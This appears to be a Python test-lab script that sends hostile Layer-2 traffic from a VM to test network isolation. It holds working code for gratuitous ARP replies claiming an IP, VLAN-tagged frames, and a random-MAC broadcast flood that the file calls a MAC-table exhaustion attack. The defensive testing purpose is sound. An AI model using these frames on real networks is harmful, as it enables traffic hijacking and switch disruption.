#!/usr/bin/env python3
"""Hostile VM traffic for the isolation tests: raw Ethernet frames written to a VM's NIC.

This kernel has no 802.1Q devices and no arping here, so the frames are built by hand and
sent through an AF_PACKET socket, run inside the VM's namespace:

    ip netns exec VM python3 lab/attack.py arp   eth0 --sender-mac M --sender-ip IP --target-ip T [--vlan V] [--reply]
    ip netns exec VM python3 lab/attack.py flood eth0 --count N [--vlan V]

`arp` sends one ARP request (or, with --reply, a gratuitous reply claiming --sender-ip) from
--sender-mac, optionally inside an 802.1Q tag; `flood` sends N broadcast frames, each from a
different random locally administered source MAC (a MAC-table exhaustion attack).
"""

from __future__ import annotations

import argparse
import ipaddress
import os
import socket
import struct

BROADCAST = b"\xff" * 6
ETH_P_ARP, ETH_P_8021Q, ETH_P_EXPERIMENTAL = 0x0806, 0x8100, 0x88B5


def mac_bytes(mac: str) -> bytes:
    return bytes(int(part, 16) for part in mac.split(":"))


def ethernet(dst: bytes, src: bytes, ethertype: int, payload: bytes, vlan: int | None) -> bytes:
    tag = struct.pack("!HH", ETH_P_8021Q, vlan & 0x0FFF) if vlan is not None else b""
    frame = dst + src + tag + struct.pack("!H", ethertype) + payload
    return frame.ljust(60, b"\0")


def arp(sender_mac: str, sender_ip: str, target_ip: str, *, reply: bool) -> bytes:
    """An ARP request for target_ip, or a gratuitous reply (sender = target = sender_ip)."""
    sha, spa = mac_bytes(sender_mac), ipaddress.IPv4Address(sender_ip).packed
    if reply:
        return struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + sha + spa + BROADCAST + spa
    return struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1) + sha + spa + b"\0" * 6 + ipaddress.IPv4Address(target_ip).packed


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = parser.add_subparsers(dest="command", required=True)
    one = sub.add_parser("arp")
    one.add_argument("iface")
    one.add_argument("--sender-mac", required=True)
    one.add_argument("--sender-ip", required=True)
    one.add_argument("--target-ip", required=True)
    one.add_argument("--vlan", type=int)
    one.add_argument("--reply", action="store_true")
    one.add_argument("--count", type=int, default=3)
    many = sub.add_parser("flood")
    many.add_argument("iface")
    many.add_argument("--count", type=int, required=True)
    many.add_argument("--vlan", type=int)
    args = parser.parse_args()

    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((args.iface, 0))
    if args.command == "arp":
        frame = ethernet(BROADCAST, mac_bytes(args.sender_mac), ETH_P_ARP,
                         arp(args.sender_mac, args.sender_ip, args.target_ip, reply=args.reply), args.vlan)
        for _ in range(args.count):
            sock.send(frame)
    else:
        for _ in range(args.count):
            src = bytearray(os.urandom(6))
            src[0] = (src[0] & 0xFC) | 0x02  # unicast, locally administered
            sock.send(ethernet(BROADCAST, bytes(src), ETH_P_EXPERIMENTAL, b"netfabric flood", args.vlan))
    print(f"sent {args.count} frame(s) on {args.iface}")


if __name__ == "__main__":
    main()
